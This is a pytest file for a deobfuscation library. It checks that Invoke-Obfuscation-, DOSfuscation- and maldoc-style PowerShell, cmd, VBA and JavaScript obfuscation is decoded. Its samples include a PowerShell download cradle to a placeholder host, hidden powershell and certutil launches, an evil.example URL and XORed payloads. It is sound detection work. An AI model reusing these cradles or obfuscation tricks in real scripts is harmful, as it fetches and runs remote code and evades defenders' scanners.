"""Obfuscation undone: replace chains, reversal, -bxor, iex, cmd, VBA, JavaScript and XOR.

The cases are written the way Invoke-Obfuscation, Invoke-DOSfuscation, Empire and common
maldoc and web-skimmer droppers write them; the traps are ordinary scripts using the same
operators.
"""

from __future__ import annotations

import base64
import time

import pytest

from asisdk.decode import unpack
from asisdk.decode._xor import xor

from .builders import check_offsets

C2 = "http://198.51.100.7:8080/news.php"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{C2}')"
COMSPEC = r"C:\WINDOWS\system32\cmd.exe"


def summary(text: str) -> list[tuple[str, str, str | None]]:
    result = unpack(text)
    check_offsets(text, result)
    return [(layer.index, layer.encoding, layer.text) for layer in result.layers]


def encodings(text: str) -> list[str]:
    return [layer.encoding for layer in unpack(text).layers]


# -- PowerShell replace chains -------------------------------------------------------------


def test_replace_method_chain_on_a_literal() -> None:
    line = "iex ('IEX (New-Object Net.WebClient).DownloadString(#u#)'.Replace('#u#','" + C2 + "'))"
    # The URL is in the source already: the replacement reveals nothing new.
    assert "ps_replace" not in encodings(line)
    masked = CRADLE.replace("e", "~").replace("'", "Q")
    hidden = f"(('{masked[:20]}'+'{masked[20:]}').Replace('~','e').Replace('Q',[char]39))"
    layers = summary(hidden)
    assert layers == [("1", "ps_replace", CRADLE)]


def test_invoke_obfuscation_replace_operator_chain() -> None:
    # Invoke-Obfuscation's string REPLACE: placeholders swapped back by -replace/-creplace.
    line = (
        "& ( 'I'+'EX') ((\"QRjNew-ObjectRQ9 QRjNet.WebClientRQ9\" -rEPLAce 'QRj','' "
        "-CrePlACe ([ChAr]82+[ChAr]81+[ChAr]57),[ChAr]32))"
    )
    layers = [(encoding, text) for _, encoding, text in summary(line)]
    assert ("ps_replace", "New-Object  Net.WebClient ") in layers


def test_replace_with_regular_expression_is_not_evaluated() -> None:
    line = "\"New-ObjectXX\" -replace '(X+)+$','' "
    assert "ps_replace" not in encodings(line)


# -- reversal --------------------------------------------------------------------------------


def test_reversed_literal_with_index_range() -> None:
    assert summary("& (-join 'xei'[-1..-3]) $c") == [("1", "ps_reverse", "iex")]


def test_reversed_variable() -> None:
    line = "$r = 'gnirtSdaolnwoD'; $wc.($r[-1..-($r.Length)] -join '').Invoke($u)"
    assert summary(line) == [("1", "ps_reverse", "DownloadString")]


def test_array_reverse_of_a_char_array() -> None:
    line = "$a = 'tcejbO-weN'.ToCharArray(); [Array]::Reverse($a); & (-join $a) Net.WebClient"
    assert summary(line) == [("1", "ps_reverse", "New-Object")]


def test_array_reverse_of_the_characters_of_another_variable() -> None:
    # A reversed base64 literal, its characters taken into a second variable, reversed and
    # joined, then decoded (the shape of a real ransomware stager).
    encoded = base64.b64encode(CRADLE.encode()).decode()[::-1]
    for take in ("$b = $s.ToCharArray()", "$b = [char[]]$s"):
        line = (
            f'$s = "{encoded}" ; {take} ; [array]::Reverse($b) ; -join $b 2>&1> $null ; '
            '$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("$b"))'
        )
        found = summary(line)
        assert found[0][1:] == ("ps_reverse", encoded[::-1])
        assert CRADLE in [text for _, _, text in found]


def test_reversed_literal_in_parentheses() -> None:
    assert summary("Invoke-Expression ((\"llehsrewop\")[-1..-10] -join '')") == [
        ("1", "ps_reverse", "powershell")
    ]


@pytest.mark.parametrize(
    "line",
    [
        "$a = 'Down'; $b = 'loadString'; $wc.($a+$b)('http://198.51.100.7/x')",
        "$a = 'Down'; $wc.($a + 'loadString')('http://198.51.100.7/x')",
        '$p1 = "Downlo"; $p2 = "adStr"; $wc.($p1 + $p2 + "ing")($u)',
    ],
)
def test_variables_holding_pieces_of_a_word(line: str) -> None:
    assert ("ps_concat", "DownloadString") in [(e, t) for _, e, t in summary(line)]


@pytest.mark.parametrize(
    ("line", "word"),
    [
        (
            "& (" + "+".join(f"[char](0x{ord(c):x})" for c in "Invoke-Expression") + ") $x",
            "Invoke-Expression",
        ),
        ("& (" + "+".join(f"[char]0x{ord(c):X}" for c in "iex") + ") $x", "iex"),
        ("& (" + "+".join(f"[char]({ord(c)})" for c in "iex") + ") $x", "iex"),
    ],
)
def test_char_codes_in_hex_and_in_parentheses(line: str, word: str) -> None:
    assert ("ps_concat", word) in [(e, t) for _, e, t in summary(line)]


@pytest.mark.parametrize(
    ("line", "encoding"),
    [
        ("iex ([regex]::Replace('Dow#nloa#dString','#',''))", "ps_replace"),
        ("$w.([string]::Concat('Down','load','String'))($u)", "ps_concat"),
        ("$w.([System.String]::Join('', 'Down', 'load', 'String'))($u)", "ps_join"),
        ("$w.([string]::join('', @('Down', 'load', 'String')))($u)", "ps_join"),
        ("$w.(('Down;load;String' -split ';') -join '')($u)", "ps_join"),
        ("$w.(('DownXXloadxxString' -isplit 'xx') -join '')($u)", "ps_join"),
        ("$w.('Down;load,String'.Split(';,') -join '')($u)", "ps_join"),
    ],
)
def test_static_string_calls_and_split_join(line: str, encoding: str) -> None:
    assert (encoding, "DownloadString") in [(e, t) for _, e, t in summary(line)]


def test_case_sensitive_split_keeps_other_case() -> None:
    from asisdk.decode._powershell import find_static_calls

    found = find_static_calls("(('DownXXloadxxString' -csplit 'xx') -join '')")
    assert [f.decoded for f in found] == ["DownXXloadString"]
    found = find_static_calls("(('Dow.nload' -split '.') -join '')")  # a real regex: not read
    assert found == []


def test_regex_right_to_left() -> None:
    reversed_cradle = CRADLE[::-1].replace("'", "''")
    line = (
        f"iex (([regex]::Matches('{reversed_cradle}','.','RightToLeft') | "
        "ForEach-Object {$_.Value}) -join '')"
    )
    assert (CRADLE) in [text for _, _, text in summary(line)]


# -- -bxor with a constant key -----------------------------------------------------------------


def test_bxor_of_a_byte_list() -> None:
    codes = ",".join(str(ord(c) ^ 0x2A) for c in CRADLE)
    line = f"iex (-join ([char[]]({codes}) | % {{ [char]($_ -bxor 0x2a) }}))"
    assert next((e, t) for _, e, t in summary(line)) == ("ps_bxor", CRADLE)


def test_bxor_of_base64_with_a_key_variable() -> None:
    payload = base64.b64encode(xor(CRADLE.encode(), b"\x47")).decode()
    line = (
        f"$k = 71; $b = [Convert]::FromBase64String('{payload}'); "
        "$s = -join ($b | % { [char]($_ -bxor $k) }); iex $s"
    )
    assert ("ps_bxor", CRADLE) in [(e, t) for _, e, t in summary(line)]


def test_empire_rc4_bxor_is_left_alone() -> None:
    # Empire's stager decrypts with RC4: -bxor of a key stream, not a constant.
    line = (
        "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];"
        "$_-bXor$S[($S[$I]+$S[$H])%256]}"
    )
    assert "ps_bxor" not in encodings(line)


# -- iex wrappers ---------------------------------------------------------------------------------


def test_iex_wrapper_is_peeled_when_it_hides_more() -> None:
    inner = "(\"{2}{0}{1}\" -f 'ject','Net.WebClient','New-Ob')"
    quoted = inner.replace("'", "''")
    line = f"Invoke-Expression '{quoted}'"
    layers = summary(line)
    assert [(e, t) for _, e, t in layers] == [
        ("ps_iex", inner),
        ("ps_format", "New-ObjectNet.WebClient"),
    ]


def test_iex_of_plain_script_is_not_a_layer() -> None:
    assert unpack("iex 'Get-Process | Sort-Object CPU'").layers == ()
    assert unpack("'Get-ChildItem' | iex").layers == ()


def test_iex_spelled_from_automatic_variables() -> None:
    assert summary(".( $ShellId[1]+$ShellId[13]+'x') $payload") == [("1", "ps_concat", "iex")]
    assert summary("& ( $PSHome[4]+$PSHome[30]+'x') $p") == [("1", "ps_concat", "iex")]
    assert summary("&( $env:ComSpec[4,24,25]-Join'') $p") == [("1", "ps_join", "Iex")]
    # two more of Invoke-Obfuscation's spellings: C:\Users\Public and "char Chars(int index)"
    assert summary("&( $env:Public[13]+$env:Public[5]+'x') $p") == [("1", "ps_concat", "iex")]
    assert summary("&( ([String]''.Chars)[15,18,19]-Join'') $p") == [("1", "ps_join", "iex")]
    assert summary("dir $env:Public\\Documents; ([String]''.Chars)[1,2]-join''") == []


# -- cmd -------------------------------------------------------------------------------------------


def test_cmd_carets() -> None:
    line = "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -c calc"
    # The cmd /c that runs the stretch is shown with it.
    assert summary(line) == [("1", "cmd_caret", "cmd.exe /c powershell")]
    assert summary("c^e^r^t^u^t^i^l -urlcache -f x") == [("1", "cmd_caret", "certutil")]


def test_cmd_set_variables() -> None:
    line = 'cmd /c "set x1=power&& set x2=shell&& call %x1%%x2% -enc AAAA"'
    assert summary(line) == [("1", "cmd_var", "powershell")]


def test_dosfuscation_substrings_of_well_known_variables() -> None:
    # Invoke-DOSfuscation picks characters out of %COMSPEC% and friends.
    def pick(char: str) -> str:
        return f"%COMSPEC:~{COMSPEC.index(char)},1%"

    line = "cmd /c " + "".join(pick(c) for c in "cmd") + " /c whoami"
    assert summary(line) == [("1", "cmd_var", "cmd")] or summary(line) == []
    spelled = "".join(f"%COMSPEC:~{COMSPEC.index(c)},1%" for c in "cmd.exe")
    assert summary(f"start {spelled} /c x") == [("1", "cmd_var", "cmd.exe")]
    assert summary("set a=certu&& %a%til -decode") == [("1", "cmd_var", "certutil")]


def test_cmd_words_cut_across_glued_variables() -> None:
    # Invoke-DOSfuscation's concatenation: a command word split over variables put side by
    # side, with %...% and with delayed !...! expansion. Obfuscation on its face, whatever
    # the word is.
    line = 'cmd /c "set a=ne&&set b=tstat&&call %a%%b% -ano"'
    assert summary(line) == [("1", "cmd_var", "netstat")]
    line = 'cmd /V:ON /C "set w=ne&&set x=tst&&set y=at&&call !w!!x!!y! -ano"'
    assert summary(line) == [("1", "cmd_var", "netstat")]


def test_cmd_variables_joining_paths_or_numbers_are_left_alone() -> None:
    # a folder and a file name, and a date stamp, joined: not a word cut in two
    assert summary("set d=C:\\Tools\\&& set f=run.exe&& %d%%f% /quiet") == []
    assert summary("set y=2024&& set m=05&& copy a.log backup-%y%%m%.log") == []


def test_cmd_empty_quotes_inside_words() -> None:
    line = 'cmd /c n""et""st""at -ano'
    assert summary(line) == [("1", "cmd_quotes", "cmd /c netstat")]
    assert summary('c""er""tu""til -urlcache -f x') == [("1", "cmd_quotes", "certutil")]
    for harmless in (
        'echo ""hello"" world',
        'a.exe /p:"" /q:"" x',
        'cmd /c "echo ""quoted"" text"',
        '"C:\\Program Files\\x.exe" "" ""',
        'set x=""&& set y=""',
    ):
        assert summary(harmless) == [], harmless


def test_cmd_substring_of_a_set_variable() -> None:
    line = "set v=xxpowershellxx&& %v:~2,10% -c whoami"
    assert summary(line) == [("1", "cmd_var", "powershell")]
    assert summary("set v=powerXhell&& %v:X=s% -c x") == [("1", "cmd_var", "powershell")]


# -- VBA and JavaScript ---------------------------------------------------------------------


def test_vba_chr_concatenation() -> None:
    line = 'Set o = CreateObject(Chr(87) & Chr(83) & "cript." & ChrW(83) & "hell")'
    assert summary(line) == [("1", "vba_chr", "WScript.Shell")]
    url = " & ".join(f"Chr({ord(c)})" for c in "http") + ' & "://evil.example/p.exe"'
    assert summary(f"u = {url}") == [("1", "vba_chr", "http://evil.example/p.exe")]
    assert summary('x = Chr(50 + 54) & "ttp://evil.example/"') == [
        ("1", "vba_chr", "http://evil.example/")
    ]


def test_js_unescape_and_char_code_variants() -> None:
    escaped = "".join(f"%u{ord(c):04x}" for c in "eval")
    assert summary(f"this[unescape('{escaped}')](p)") == [("1", "js_unescape", "eval")]
    codes = ",".join(str(ord(c)) for c in C2)
    assert summary(f"l=String.fromCharCode.apply(null,[{codes}])") == [("1", "js_charcode", C2)]
    assert summary(f"l=String['fromCharCode']({codes})") == [("1", "js_charcode", C2)]


# -- XOR found by known plaintext, and text with stray bytes --------------------------------


def pe_image() -> bytes:
    head = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43)
    head += (128).to_bytes(4, "little") + b"This program cannot be run in DOS mode.\r\r\n$"
    return head + bytes(128 - len(head)) + b"PE\x00\x00" + bytes(300)


@pytest.mark.parametrize("key", [b"\x5a", b"\x13\x37", b"\xde\xad\xbe\xef"])
def test_xored_pe_found_from_its_header(key: bytes) -> None:
    result = unpack("payload " + base64.b64encode(xor(pe_image(), key)).decode())
    assert [(layer.encoding, layer.file_type) for layer in result.layers] == [
        ("base64", "binary"),
        ("xor", "pe"),
    ]
    assert result.layers[1].key == key.hex()
    assert result.layers[1].data == pe_image()


@pytest.mark.parametrize("plain", [CRADLE, "powershell -nop -w hidden -c calc", C2 + "/x"])
def test_single_byte_xor_found_from_text_cribs(plain: str) -> None:
    result = unpack("blob=" + base64.b64encode(xor(plain.encode(), b"\xa7")).decode())
    assert [(layer.encoding, layer.text) for layer in result.layers][-1] == ("xor", plain)
    assert result.layers[-1].key == "a7"


def test_random_bytes_are_not_decrypted() -> None:
    import random

    rng = random.Random(7)
    for _ in range(200):
        blob = bytes(rng.randrange(256) for _ in range(48))
        assert "xor" not in encodings("token " + base64.b64encode(blob).decode())


def test_base64_of_mostly_text_with_stray_bytes() -> None:
    noisy = f"\x01\x02{CRADLE}\x00\x7f".encode()
    result = unpack("data " + base64.b64encode(noisy).decode())
    assert [(layer.encoding, layer.file_type) for layer in result.layers] == [("base64", "text")]
    assert result.layers[0].text == f"\\x01\\x02{CRADLE}\\x00\\x7f"


def test_mostly_text_without_anything_to_show_is_not_a_layer() -> None:
    noisy = b"\x99\x01 a4c0c961-ab7d-4a81-bf2a-8065f705bea5 and more plain words here"
    assert unpack("id " + base64.b64encode(noisy).decode()).layers == ()


# -- traps ----------------------------------------------------------------------------------

HARMLESS = [
    "$name = $file.Name.Replace('.txt', '.bak')",
    "$clean = $input -replace '\\s+', ' '",
    "$s = 'hello'.Replace('l', 'L')",
    "$last = $items[-1..-3]",
    "[array]::Reverse($list)",
    "$csv = ('a,b,c' -split ',') -join ';'",
    "$line = [string]::Join(', ', 'alpha', 'beta')",
    "$d = [regex]::Replace('2024-01-05', '-', '/')",
    "$p = [string]::Concat('C:\\', 'temp')",
    "$base = 'https://api.example.com'; $url = $base + '/v1/items'",
    "$dir = 'C:\\Temp'; $full = $dir + '\\report.txt'",
    "$first = 'John'; $name = $first + ' ' + $last",
    "$b = $name.ToCharArray(); [array]::Reverse($b)",  # $name is not a literal here
    "$mask = $value -bxor 0xFF",
    "iex 'Get-Date'",
    "echo ^<html^>",
    "set PATH=%PATH%;C:\\tools&& echo %PATH%",
    'MsgBox "Hello" & Chr(13) & "World"',
    "decodeURIComponent('caf%C3%A9')",
    "String.fromCharCode(65)",
    "for /f %%i in (list.txt) do echo %%i",
    "echo %DATE:~-4,4%%DATE:~-10,2%",
    "if errorlevel 1 echo !ERR!",
]


@pytest.mark.parametrize("line", HARMLESS)
def test_ordinary_scripts_stay_clean(line: str) -> None:
    result = unpack(line)
    assert result.layers == (), [(layer.encoding, layer.text) for layer in result.layers]
    assert result.text == line


# -- bounded on hostile input -------------------------------------------------------------------

MB = 1_000_000
ADVERSARIAL = {
    "replace_ops": "'a'" + ".Replace('a','b')" * (MB // 17),
    "replace_without_operand": "-replace 'a','b' " * (MB // 17),
    "replace_after_quotes": "'" * MB + ".Replace('a','b')",
    "reverse_literals": "'ab'[-1..-2]" * (MB // 12),
    "reverse_after_quotes": "'" * MB + "[-1..-5]",
    "reverse_assignments": "$a='x';" * (MB // 7) + "$a[-1..-1]",
    "bxor_lists": "(1,2,3) -bxor 5;" * (MB // 16),
    "bxor_key_variables": "$k=1;" * (MB // 5) + "(1,2,3) -bxor $k",
    "iex_quotes": "iex '" * (MB // 5),
    "iex_pipes": "'a'|iex" * (MB // 7),
    "carets": "a^" * (MB // 2),
    "set_uses": "set a=b&&" * 1000 + "%a%" * (MB // 3),
    "percent_run": "%" * MB,
    "vba_pieces": 'Chr(65) & "a" & ' * (MB // 17),
    "unescape_open": "unescape('" + "%u0041" * (MB // 6),
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_megabyte_is_bounded(name: str) -> None:
    text = ADVERSARIAL[name]
    assert len(text) >= MB * 0.8
    started = time.process_time()
    unpack(text)
    # About a second of CPU here on a shared machine; a quadratic scan would take minutes.
    assert time.process_time() - started < 15
